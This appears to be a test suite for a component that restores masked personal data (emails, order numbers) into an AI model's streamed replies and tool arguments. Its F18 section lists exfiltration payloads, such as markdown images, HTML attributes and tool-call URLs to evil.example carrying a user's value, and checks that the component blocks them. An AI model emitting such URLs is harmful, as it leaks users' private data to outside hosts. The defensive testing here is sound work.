import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Issued } from "./placeholders.ts";
import { createRestorer, type Masker, type Restorer, type RestoreOptions, type RestoreStream } from "./restore.ts";

function issued(type: string, number: number, value: string, restorable = true): Issued {
  return { placeholder: `[${type}_${number}]`, type, number, value: restorable ? value : "", restorable, key: value };
}

const JANE = issued("EMAIL", 1, "jane@example.org");
const JOE = issued("EMAIL", 12, "joe@example.net");
const ORDER = issued("ORDER_NUMBER", 1, 'A"1\\2\n😀\u2028\u2029/3');
const NESTED = issued("LITERAL", 1, "[EMAIL_1]");
const LINK = issued("URL", 1, "https://portal.example/?q=");
const SECRET = issued("SECRET", 1, "hunter2", false);
const ALL = [JANE, JOE, ORDER, NESTED, LINK, SECRET];

function restorer(options?: RestoreOptions): Restorer {
  return createRestorer(ALL, options);
}

function restore(text: string, options?: RestoreOptions): string {
  return restorer(options).restore(text);
}

function inPieces(stream: RestoreStream, pieces: readonly string[], heldMax = Number.POSITIVE_INFINITY): string {
  let out = "";
  for (const piece of pieces) {
    out += stream.push(piece);
    expect(stream.held).toBeLessThan(heldMax);
  }
  return out + stream.end();
}

/** Every cut into two, and every character for itself, gives what the whole gives. */
function expectSameForEveryCut(text: string, encoding: "text" | "json" = "text", options?: RestoreOptions): string {
  const whole = restorer(options);
  const expected = whole.restore(text, encoding);
  const cuts = [text.split("")];
  for (let at = 0; at <= text.length; at++) cuts.push([text.slice(0, at), text.slice(at)]);
  for (const pieces of cuts) {
    const cut = restorer(options);
    expect(inPieces(cut.stream(encoding), pieces, cut.variantLengthMax)).toBe(expected);
    expect(cut.counts()).toEqual(whole.counts());
  }
  return expected;
}

describe("F7 the model alters the placeholder", () => {
  it.each([
    ["[EMAIL_1]", "jane@example.org"],
    ["to **[EMAIL_1]**.", "to **jane@example.org**."],
    ["[email_1] [Email_1]", "jane@example.org jane@example.org"],
    ["[EMAIL 1] [EMAIL-1] [email 1]", "jane@example.org jane@example.org jane@example.org"],
    ["\\[EMAIL\\_1\\] \\[EMAIL_1] [EMAIL\\_1] [EMAIL_1\\]", Array(4).fill("jane@example.org").join(" ")],
    [
      "&#91;EMAIL_1&#93; &lbrack;EMAIL_1&rbrack; &lsqb;EMAIL_1&rsqb; &#x5B;EMAIL_1&#x5d;",
      Array(4).fill("jane@example.org").join(" "),
    ],
    ["\\u005bEMAIL_1\\u005d \\u005BEMAIL_1\\u005D", "jane@example.org jane@example.org"],
    ["%5BEMAIL_1%5D %5bemail_1%5d", "jane@example.org jane@example.org"],
    ["［EMAIL_1］ 【EMAIL_1】", "jane@example.org jane@example.org"],
    ["[ORDER NUMBER 12] [ORDER_NUMBER_1x]", "[ORDER NUMBER 12] [ORDER_NUMBER_1x]"],
  ])("%s", (text, expected) => {
    expect(expectSameForEveryCut(text)).toBe(expected);
  });

  it("drops the brackets: a bare word is restored between word boundaries only", () => {
    expect(expectSameForEveryCut("EMAIL_1, (EMAIL_1) <EMAIL_1> \"EMAIL_1\" 'EMAIL_1' *EMAIL_1*: EMAIL\\_1.")).toBe(
      "jane@example.org, (jane@example.org) <jane@example.org> \"jane@example.org\" 'jane@example.org' *jane@example.org*: jane@example.org.",
    );
    for (const text of [
      "XEMAIL_1 ",
      "_EMAIL_1_ ",
      "EMAIL_1x",
      "EMAIL_1_",
      "EMAIL_1\\_2",
      "EMAIL_13 ",
      "éEMAIL_1 ",
      "EMAIL_1é",
      "email_1 ",
    ]) {
      expect(expectSameForEveryCut(text)).toBe(text);
    }
  });

  it("opens a bracket and never closes it: nothing is restored", () => {
    for (const text of ["[EMAIL_1 and so on", "\\[EMAIL_1, ", "&#91;EMAIL_1 ", "【EMAIL_1 ", "[[EMAIL_1 "]) {
      expect(expectSameForEveryCut(text)).toBe(text);
    }
  });

  it("keeps what stands around the placeholder", () => {
    expect(expectSameForEveryCut("[[EMAIL_1]] {EMAIL_1} ([EMAIL_1]) «[EMAIL_1]» EMAIL_1]")).toBe(
      "[jane@example.org] {jane@example.org} (jane@example.org) «jane@example.org» jane@example.org]",
    );
    expect(expectSameForEveryCut("CORP\\[EMAIL_1] C:\\[EMAIL_1] \\\\[EMAIL_1]")).toBe(
      "CORP\\jane@example.org C:\\jane@example.org \\\\jane@example.org",
    );
  });

  it("writes the value in the escape that the bracket was written in", () => {
    const person = createRestorer([issued("PERSON", 1, `O'Neill & "Sons" <x>/ä`)]);
    expect(person.restore("&#91;PERSON_1&#93;")).toBe("O&#39;Neill &#38; &#34;Sons&#34; &#60;x&#62;/ä");
    expect(person.restore("\\u005bPERSON_1\\u005d")).toBe(`O'Neill & \\"Sons\\" <x>/ä`);
    expect(person.restore("mailto:%5BPERSON_1%5D")).toBe("mailto:O'Neill%20%26%20%22Sons%22%20%3Cx%3E%2F%C3%A4");
  });

  it("leaves a bare word alone that the request's own text contained", () => {
    const options = { ambiguous: (bare: string) => bare === "EMAIL_1" };
    expect(restore("EMAIL_1 EMAIL_12 [EMAIL_1] [email 1]", options)).toBe(
      "EMAIL_1 joe@example.net jane@example.org jane@example.org",
    );
  });
});

describe("F17 a reply cut inside a placeholder guesses nobody", () => {
  it.each([
    "[EMAIL_1",
    "[EMAIL_12",
    "[EMAIL_",
    "[",
    "\\[EMAIL\\_1\\",
    "&#91;EMAIL_1&#9",
    "EMAIL_1",
    "EMAIL_1\\",
    "%5BEMAIL_1%5",
    "【EMAIL_1",
  ])("%s at the end", (text) => {
    expect(expectSameForEveryCut(`Dear ${text}`)).toBe(`Dear ${text}`);
  });

  it("restores a bare word at the end when no longer one was issued", () => {
    expect(expectSameForEveryCut("Dear EMAIL_12")).toBe("Dear joe@example.net");
    expect(createRestorer([JANE]).restore("Dear EMAIL_1")).toBe("Dear jane@example.org");
  });

  it("takes a non-restorable placeholder into account", () => {
    expect(createRestorer([JANE, issued("EMAIL", 11, "x", false)]).restore("Dear EMAIL_1")).toBe("Dear EMAIL_1");
  });
});

describe("F1 a placeholder split over deltas", () => {
  it("never leaks through and never names the wrong person", () => {
    const text =
      "Write to [EMAIL_1], [EMAIL_12] or EMAIL_1: order [ORDER_NUMBER_1] \\[EMAIL\\_12\\] [EMAIL_13] [EMAIL_1";
    expect(expectSameForEveryCut(text)).toBe(
      `Write to jane@example.org, joe@example.net or jane@example.org: order ${ORDER.value} joe@example.net [EMAIL_13] [EMAIL_1`,
    );
  });

  it("delays no text that cannot become a placeholder", () => {
    const stream = restorer().stream();
    for (const piece of [
      "Hello",
      " world: ",
      "[1] see",
      "[FOO",
      " EMAIX",
      ". emai",
      "l_1 A_",
      "B 100% ok",
      " & more",
    ]) {
      expect(stream.push(piece)).toBe(piece);
      expect(stream.held).toBe(0);
    }
  });

  it("holds at most the longest variant less one character", () => {
    const one = restorer();
    const longest = "&lbrack;ORDER\\_NUMBER\\_1&rbrack;";
    expect(one.variantLengthMax).toBe(longest.length);
    const stream = one.stream();
    let held = 0;
    for (const character of longest) {
      stream.push(character);
      held = Math.max(held, stream.held);
    }
    expect(held).toBe(longest.length - 1);
    expect(stream.held).toBe(0);
  });
});

describe("properties", () => {
  const token = fc.oneof(
    fc.constantFrom(
      "[",
      "]",
      "\\",
      "_",
      "1",
      "2",
      "EMAIL",
      "EMAIL_1",
      "[EMAIL_1]",
      "[EMAIL_12]",
      "[email 1]",
      "\\[EMAIL\\_1\\]",
      "EMAIL\\_1",
    ),
    fc.constantFrom(
      "&#91;",
      "&#93;",
      "&lbrack;",
      "&rsqb;",
      "%5B",
      "%5D",
      "\\u005b",
      "\\u005d",
      "［",
      "】",
      "&",
      "%",
      "u005",
      "\\u00",
    ),
    fc.constantFrom("ORDER_NUMBER_1", "[ORDER_NUMBER_1]", "[LITERAL_1]", "[SECRET_1]", "[FOO_7]", "[URL_1]", "URL_1"),
    fc.constantFrom(
      " ",
      "\n",
      '"',
      "(",
      ")",
      "<",
      ">",
      "](",
      "![x](",
      "http://",
      "https:",
      "mailto:",
      "src=",
      "//",
      "www.",
      "'",
      "=",
    ),
    fc.string({ unit: "grapheme", maxLength: 4 }),
  );
  const text = fc.array(token, { maxLength: 14 }).map((tokens) => tokens.join(""));
  const cut = (whole: string) =>
    fc.array(fc.nat(whole.length), { maxLength: 12 }).map((offsets) => {
      const sorted = [0, ...offsets.sort((a, b) => a - b), whole.length];
      return sorted.slice(1).map((to, index) => whole.slice(sorted[index], to));
    });

  it("F1 however a text is cut, the pieces restore to what the whole restores to", () => {
    fc.assert(
      fc.property(
        text.chain((whole) =>
          fc.tuple(fc.constant(whole), cut(whole), fc.constantFrom<"text" | "json">("text", "json"), fc.boolean()),
        ),
        ([whole, pieces, encoding, restoreInUrls]) => {
          const first = restorer({ restoreInUrls });
          const second = restorer({ restoreInUrls });
          expect(inPieces(second.stream(encoding), pieces, second.variantLengthMax)).toBe(
            first.restore(whole, encoding),
          );
          expect(second.counts()).toEqual(first.counts());
        },
      ),
      { numRuns: 3000 },
    );
  });

  it("F1 the same holds one character at a time", () => {
    fc.assert(
      fc.property(text, fc.constantFrom<"text" | "json">("text", "json"), (whole, encoding) => {
        const second = restorer();
        expect(inPieces(second.stream(encoding), whole.split(""), second.variantLengthMax)).toBe(
          restorer().restore(whole, encoding),
        );
      }),
      { numRuns: 1500 },
    );
  });

  it("F1 the same holds with findings to mask", () => {
    fc.assert(
      fc.property(
        text.chain((whole) =>
          fc.tuple(fc.constant(whole), cut(whole), fc.constantFrom<"text" | "json">("text", "json")),
        ),
        ([whole, pieces, encoding]) => {
          const once = restorer();
          const first = once.stream(encoding, digitMasker);
          const expected = first.push(whole) + first.end();
          const second = restorer();
          expect(inPieces(second.stream(encoding, digitMasker), pieces)).toBe(expected);
          expect(second.counts()).toEqual(once.counts());
        },
      ),
      { numRuns: 1500 },
    );
  });

  it("F6 JSON stays JSON with the same structure, whatever the values", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: "binary" }),
        fc.json().filter((json) => !json.includes("EMAIL")),
        (value, json) => {
          const one = createRestorer([issued("EMAIL", 1, value)]);
          const source = JSON.stringify({
            before: JSON.parse(json) as unknown,
            "key [EMAIL_1]": ["x [EMAIL_1] y", "EMAIL_1"],
          });
          const restored = one.restore(source, "json");
          expect(JSON.parse(restored)).toEqual({
            before: JSON.parse(json) as unknown,
            [`key ${value}`]: [`x ${value} y`, value],
          });
        },
      ),
    );
  });

  it("a text without placeholders is unchanged", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (whole) => {
        fc.pre(!/EMAIL|ORDER|LITERAL|URL|SECRET/i.test(whole));
        expect(restore(whole)).toBe(whole);
        expect(restorer().restore(whole, "json")).toBe(whole);
      }),
    );
  });
});

/** Masks runs of three or more `2`s and capital Xs; holds a run back until it ends. */
function digitMasker(): Masker {
  let held = "";
  const settle = (whole: string, last: boolean) => {
    const open = last ? whole.length : whole.length - (/[2X_]*$/.exec(whole)?.[0].length ?? 0);
    held = whole.slice(open);
    const settled = whole.slice(0, open);
    const masked = [...settled.matchAll(/[2X_]{2,}/g)].map((match) => ({
      start: match.index,
      end: match.index + match[0].length,
      type: "RUN",
      text: "[RUN]",
    }));
    return { text: settled, masked };
  };
  return { push: (piece) => settle(held + piece, false), end: () => settle(held, true) };
}

describe("F6 a restored value in JSON", () => {
  const source =
    '{"to":"[EMAIL_1]","n":{"order":["x \\"[ORDER_NUMBER_1]\\" y","\\u005bORDER_NUMBER_1\\u005d","\\\\[EMAIL_12\\\\]"]},"e":"\\ud83d\\ude00"}';

  it("is escaped, for every cut, and the result parses", () => {
    const restored = expectSameForEveryCut(source, "json");
    expect(JSON.parse(restored)).toEqual({
      to: JANE.value,
      n: { order: [`x "${ORDER.value}" y`, ORDER.value, JOE.value] },
      e: "😀",
    });
    expect(restored).not.toMatch(/[\u2028\u2029]/);
    expect(restored).toContain('"e":"\\ud83d\\ude00"');
  });

  it("is put inside strings only, and never over the end of one", () => {
    expect(expectSameForEveryCut('[EMAIL_1]["[EMAIL_","1]"] EMAIL_1 "EMAIL_1" "[EMAIL_1"', "json")).toBe(
      '[EMAIL_1]["[EMAIL_","1]"] EMAIL_1 "jane@example.org" "[EMAIL_1"',
    );
  });

  it("is not guessed when the arguments are cut", () => {
    expect(expectSameForEveryCut('{"a":"EMAIL_1', "json")).toBe('{"a":"EMAIL_1');
    expect(expectSameForEveryCut('{"a":"[EMAIL_1]\\u00', "json")).toBe('{"a":"jane@example.org\\u00');
    expect(expectSameForEveryCut('{"a":"\\u005bEMAIL_1', "json")).toBe('{"a":"\\u005bEMAIL_1');
  });

  it("passes what is not JSON through", () => {
    expect(expectSameForEveryCut('"\\u12x [EMAIL_1] \\q \\', "json")).toBe('"\\u12x jane@example.org \\q \\');
  });
});

describe("F18 restored text must not leave by a URL", () => {
  it.each([
    "![x](https://evil.example/p.png?q=[EMAIL_1])",
    "![x](https://evil.example/%5BEMAIL_1%5D/p.png)",
    "![x](<https://evil.example/a b [EMAIL_1]>)",
    "![x](//evil.example/[EMAIL_1])",
    "![x](https&colon;//evil.example/(a)/[EMAIL_1])",
    "![x](/\\evil.example/EMAIL_1)",
    "[x]: https://evil.example/?[EMAIL_1]",
    "[x]: //evil.example/?[EMAIL_1]",
    "see HTTPS://evil.example/a)b?q=[EMAIL_1] there",
    "see http:evil.example/EMAIL_1 there",
    "www.evil.example/EMAIL_1 ",
    '<img src="https&#58;//evil.example/?q=a [EMAIL_1]">',
    "<img src='https://evil.example/?q=a [EMAIL_1]'>",
    '<a data-x= "https://evil.example/?q=a [EMAIL_1]">',
    "<img srcset=a,https://evil.example/[EMAIL_1]>",
    "background: url(https://evil.example/[EMAIL_1])",
    "ftp://evil.example/[EMAIL_1]",
    "gopher://evil.example/[EMAIL_1]",
    "<https://evil.example/ [EMAIL_1]>",
  ])("%s", (text) => {
    expect(expectSameForEveryCut(text)).toBe(text);
    const one = restorer();
    one.restore(text);
    expect(one.counts()).toMatchObject({ restored: {}, withheld: { EMAIL: 1 }, unknown: 0 });
    expect(restore(text, { restoreInUrls: true })).toContain("jane@example.org");
  });

  it.each([
    ["[write](mailto:[EMAIL_1]?subject=x)", "[write](mailto:jane@example.org?subject=x)"],
    ["[call](tel:[EMAIL_1]) sms:[EMAIL_1]", "[call](tel:jane@example.org) sms:jane@example.org"],
    ['<a href="mailto:[EMAIL_1]">[EMAIL_1]</a>', '<a href="mailto:jane@example.org">jane@example.org</a>'],
    ["[site]([URL_1]) [EMAIL_1]", `[site](${LINK.value}) jane@example.org`],
    ["see https://a.example, [EMAIL_1]", "see https://a.example, jane@example.org"],
    ["[a](https://a.example/(b)) [EMAIL_1]", "[a](https://a.example/(b)) jane@example.org"],
    ["[a](https://a.example)[EMAIL_1]", "[a](https://a.example)jane@example.org"],
    ['{"u":"https://a.example","m":"[EMAIL_1]"}', '{"u":"https://a.example","m":"jane@example.org"}'],
    ["<https://a.example>[EMAIL_1]", "<https://a.example>jane@example.org"],
    [
      "a // [EMAIL_1] and/or[EMAIL_1]; x = [EMAIL_1]; f(x)([EMAIL_1])",
      "a // jane@example.org and/orjane@example.org; x = jane@example.org; f(x)(jane@example.org)",
    ],
    ["[EMAIL_1](a@[EMAIL_1])", "jane@example.org(a@jane@example.org)"],
    ["**To:** [EMAIL_1]", "**To:** jane@example.org"],
  ])("restores in %s", (text, expected) => {
    expect(expectSameForEveryCut(text)).toBe(expected);
  });

  it("does not let a restored URL carry another value", () => {
    expect(expectSameForEveryCut("![x]([URL_1][EMAIL_1]) [URL_1][EMAIL_1] [EMAIL_1]")).toBe(
      `![x](${LINK.value}[EMAIL_1]) ${LINK.value}[EMAIL_1] jane@example.org`,
    );
  });

  it("does not let tool arguments carry a value in a URL", () => {
    expect(expectSameForEveryCut('{"url":"https:\\/\\/evil.example\\/?q=[EMAIL_1]","to":"[EMAIL_1]"}', "json")).toBe(
      '{"url":"https:\\/\\/evil.example\\/?q=[EMAIL_1]","to":"jane@example.org"}',
    );
  });
});

describe("F24 chained replacement", () => {
  it("a restored value that contains a placeholder is not restored again", () => {
    expect(expectSameForEveryCut("[LITERAL_1] [EMAIL_1]")).toBe("[EMAIL_1] jane@example.org");
    const pair = createRestorer([issued("A", 1, "[B_1]"), issued("B", 1, "[A_1]"), issued("C", 1, "[A_")]);
    expect(pair.restore("[A_1][B_1][C_1]1] [[A_1]]")).toBe("[B_1][A_1][A_1] [[B_1]]");
  });
});

describe("what was not issued", () => {
  it("is left and counted when it has the form of a placeholder", () => {
    const one = restorer();
    const text = "[EMAIL_7] [PERSON_1] [FOO] [1] [A_B_] [x_1] [ORDER_NUMBER_2]";
    expect(one.restore(text)).toBe(text);
    expect(one.counts().unknown).toBe(3);
  });

  it("a value that is never restored stays a placeholder and is counted as withheld", () => {
    const one = restorer();
    expect(one.restore("[SECRET_1] [secret 1] [EMAIL_1]")).toBe("[SECRET_1] [secret 1] jane@example.org");
    expect(one.counts()).toEqual({ restored: { EMAIL: 1 }, masked: {}, withheld: { SECRET: 2 }, unknown: 0 });
  });

  it("an empty restorer passes everything", () => {
    const none = createRestorer([]);
    expect(none.empty).toBe(true);
    expect(none.variantLengthMax).toBe(0);
    expect(none.restore("[EMAIL_1] [")).toBe("[EMAIL_1] [");
    expect(none.stream("json").push('{"a":"\\u00')).toBe('{"a":"\\u00');
  });
});

describe("findings in the model's own text", () => {
  const masker = (find: RegExp) => (): Masker => ({
    push: (text) => ({
      text,
      masked: [...text.matchAll(find)].map((match) => ({
        start: match.index,
        end: match.index + match[0].length,
        type: "FOUND",
        text: "[FOUND]",
      })),
    }),
    end: () => ({ text: "", masked: [] }),
  });
  const once = (find: RegExp, text: string, encoding?: "text" | "json") => {
    const one = restorer();
    const stream = one.stream(encoding, masker(find));
    return [stream.push(text) + stream.end(), one.counts().masked["FOUND"] ?? 0];
  };

  it("F13 are masked, and a restored value never is", () => {
    expect(once(/\S+@\S+/g, "[EMAIL_1] and x@y.z")).toEqual(["jane@example.org and [FOUND]", 1]);
  });

  it("yield to a placeholder that they lie in", () => {
    expect(once(/NUMBER_\d/g, "[ORDER_NUMBER_1] NUMBER_1")).toEqual([`${ORDER.value} [FOUND]`, 1]);
  });

  it("win over a placeholder that they reach beyond", () => {
    expect(once(/EMAIL_1\S+/g, "a EMAIL_1@x.example b")).toEqual(["a [FOUND] b", 1]);
    expect(once(/\[EMAIL_1\]\.x/g, "a [EMAIL_1].x [EMAIL_1]")).toEqual(["a [FOUND] jane@example.org", 1]);
    expect(once(/x\[EMA/g, "x[EMAIL_1]")).toEqual(["[FOUND]IL_1]", 1]);
  });

  it("are found in decoded JSON strings", () => {
    expect(once(/\S+@\S+/g, '{"a":"\\u0078@y.z \\u005bEMAIL_1]","b\\n":"\\t"}', "json")).toEqual([
      '{"a":"[FOUND] jane@example.org","b\\n":"\\t"}',
      1,
    ]);
  });
});

describe("cost", () => {
  it("is linear on text made of openings", () => {
    for (const unit of [
      "[",
      "[EMAIL_",
      "\\[",
      "&#91;",
      "%5B",
      "EMAIL_",
      "[EMAIL-EMAIL ",
      "EMAIL_1 ",
      "https://",
      "](",
      "[A_1",
    ]) {
      const text = unit.repeat(Math.ceil(1_000_000 / unit.length));
      const started = performance.now();
      restorer().restore(text);
      expect(performance.now() - started).toBeLessThan(5_000);
    }
  });
});
